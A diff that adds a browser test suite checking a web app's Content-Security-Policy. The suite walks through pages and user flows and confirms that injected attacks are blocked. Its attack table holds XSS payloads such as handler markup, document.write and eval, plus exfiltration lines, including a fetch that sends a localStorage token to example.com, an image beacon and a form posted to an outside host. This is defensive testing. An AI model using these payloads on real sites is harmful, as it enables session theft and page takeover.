@@ -1,0 +1,187 @@
+/** The pages keep within their own Content-Security-Policy, and the policy stops what would break in. */
+
+import type { Browser, Page } from 'playwright-core'
+import { beforeAll, describe, expect, it } from 'vitest'
+import { stressCase } from './flow-cases.ts'
+import type { AppServer } from './support/app-server.ts'
+import { openPage } from './support/browser.ts'
+import { saveBmi, signInFreshMember } from './support/person.ts'
+import { sharedApp } from './support/shared-app.ts'
+import { visit } from './support/visit.ts'
+import { submitButton, walkToTheEnd } from './support/walk-flow.ts'
+
+let server: AppServer
+let browser: Browser
+
+beforeAll(async () => {
+  ;({ server, browser } = await sharedApp())
+})
+
+/** Opens a page in which every violation counts as a trouble, also one before our script runs. */
+async function openWatched() {
+  const opened = await openPage(browser, server.url, 'desktop')
+  await opened.page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', (event) => {
+      reportError(
+        new Error(`violated ${event.effectiveDirective} ${event.blockedURI} ${event.sample}`),
+      )
+    })
+  })
+  return opened
+}
+
+const button = (page: Page, name: string) => page.getByRole('button', { name, exact: true })
+
+const openPaths = [
+  '/',
+  '/contact',
+  '/privacy',
+  '/login',
+  '/register',
+  '/about',
+  '/about2',
+  '/about3',
+  '/demo',
+  '/no/such/page',
+]
+const closedPaths = [
+  '/account',
+  '/evaluations',
+  '/stress',
+  '/bmi',
+  '/nurtition',
+  '/pitt',
+  '/literacy',
+  '/about1',
+  '/about4',
+  '/about5',
+  '/advice',
+]
+
+describe('the policy', () => {
+  it('is kept by every kind of page', async () => {
+    const { page, drainPageErrors, close } = await openWatched()
+    for (const path of openPaths) await visit(page, path)
+    expect(drainPageErrors().filter((line) => !line.includes('404'))).toEqual([])
+    const member = await signInFreshMember(page)
+    // Without a BMI a rightful 404 may come back while the page that asks for it is still there.
+    await saveBmi(server.url, member)
+    for (const path of closedPaths) await visit(page, path)
+    expect(drainPageErrors()).toEqual([])
+    await close()
+  })
+
+  it('is kept through a questionnaire, its score, advice, a chat, a download and moves between them', async () => {
+    const { page, drainPageErrors, close } = await openWatched()
+    await signInFreshMember(page)
+    await visit(page, stressCase.questions)
+    await walkToTheEnd(page, stressCase.instrument, stressCase.answers)
+    await submitButton(page).click()
+    await page.getByRole('meter').waitFor()
+    await page.getByRole('link', { name: 'Back to Evaluations' }).click()
+    await page.getByRole('link', { name: 'Activate Health Coach' }).click()
+    await page.getByRole('button', { name: 'General Wellness' }).click()
+    await page.getByRole('main').getByRole('listitem').first().waitFor()
+    await visit(page, '/assistant')
+    await page.getByLabel('Your question').fill('How can I sleep better?')
+    await button(page, 'Send').click()
+    await button(page, 'Start New Chat').waitFor()
+    await page.getByRole('contentinfo').getByRole('link', { name: 'My data' }).click()
+    await Promise.all([page.waitForEvent('download'), button(page, 'Download everything').click()])
+    await page.goBack()
+    await page.goForward()
+    await button(page, 'Delete my data').click()
+    await page.getByRole('dialog').waitFor()
+    expect(drainPageErrors()).toEqual([])
+    await close()
+  })
+})
+
+/**
+ * Ways in which a text that got into a page could become script, leave the page, or take it over.
+ * Each runs as the page's own code would and tells whether it went through.
+ */
+const attacks: Readonly<Record<string, { readonly script: string; readonly stoppedBy: string }>> = {
+  'markup with a handler': {
+    script: `document.body.innerHTML = '<img src="x" onerror="window.broken = true">'`,
+    stoppedBy: 'require-trusted-types-for',
+  },
+  'markup beside a part': {
+    script: `document.body.insertAdjacentHTML('beforeend', '<b onclick="window.broken = true">x</b>')`,
+    stoppedBy: 'require-trusted-types-for',
+  },
+  'a written page': {
+    script: `document.write('<script>window.broken = true</' + 'script>')`,
+    stoppedBy: 'require-trusted-types-for',
+  },
+  'a script from elsewhere': {
+    script: `const s = document.createElement('script'); s.src = 'https://example.com/x.js'; document.head.append(s)`,
+    stoppedBy: 'require-trusted-types-for',
+  },
+  'a text as a script': {
+    script: `const s = document.createElement('script'); s.textContent = 'window.broken = true'; document.head.append(s)`,
+    stoppedBy: 'require-trusted-types-for',
+  },
+  'a text as code': {
+    script: `globalThis['ev' + 'al']('window.broken = true')`,
+    stoppedBy: 'require-trusted-types-for',
+  },
+  'a policy of its own': {
+    script: `trustedTypes.createPolicy('mine', { createHTML: (text) => text })`,
+    stoppedBy: 'trusted-types',
+  },
+  'a call to elsewhere': {
+    script: `fetch('https://example.com/?stolen=' + localStorage.getItem('token')).then(() => { window.broken = true }, () => {})`,
+    stoppedBy: 'connect-src',
+  },
+  'a picture that carries data away': {
+    script: `new Image().src = 'https://example.com/?stolen=1'`,
+    stoppedBy: 'img-src',
+  },
+  'a form to elsewhere': {
+    script: `const f = document.createElement('form'); f.action = 'https://example.com/'; document.body.append(f); f.submit()`,
+    stoppedBy: 'form-action',
+  },
+  'another ground for links': {
+    script: `const b = document.createElement('base'); b.href = 'https://example.com/'; document.head.append(b)`,
+    stoppedBy: 'base-uri',
+  },
+  'a frame': {
+    script: `const f = document.createElement('iframe'); f.src = 'https://example.com/'; document.body.append(f)`,
+    stoppedBy: 'frame-src',
+  },
+  'a worker': {
+    script: `new Worker('/assets/x.js')`,
+    stoppedBy: 'require-trusted-types-for',
+  },
+}
+
+/** A text, because the test runner would put its own `import` in the place of the browser's. */
+const untilStopped = `new Promise((resolve) => {
+  document.addEventListener('securitypolicyviolation', (event) => {
+    resolve(event.effectiveDirective)
+  })
+  import('/attack.js').then((attack) => { setTimeout(attack.default) })
+})`
+
+describe('a break-in', () => {
+  it.each(Object.entries(attacks))('by %s is stopped', async (_, { script, stoppedBy }) => {
+    const { page, close } = await openPage(browser, server.url, 'desktop')
+    // Code of the page itself: what a test evaluates is let through by some of the policy's rules.
+    await page.route('**/attack.js', (route) =>
+      route.fulfill({ contentType: 'text/javascript', body: `export default () => { ${script} }` }),
+    )
+    const reached: string[] = []
+    await page.route('https://example.com/**', (route) => {
+      reached.push(route.request().url())
+      return route.fulfill({ body: '' })
+    })
+    await visit(page, '/')
+    const stopped = await page.evaluate<string>(untilStopped)
+    expect(stopped).toBe(stoppedBy)
+    expect(await page.evaluate(() => 'broken' in window)).toBe(false)
+    expect(reached).toEqual([])
+    expect(new URL(page.url()).origin).toBe(server.url)
+    await close()
+  })
+})
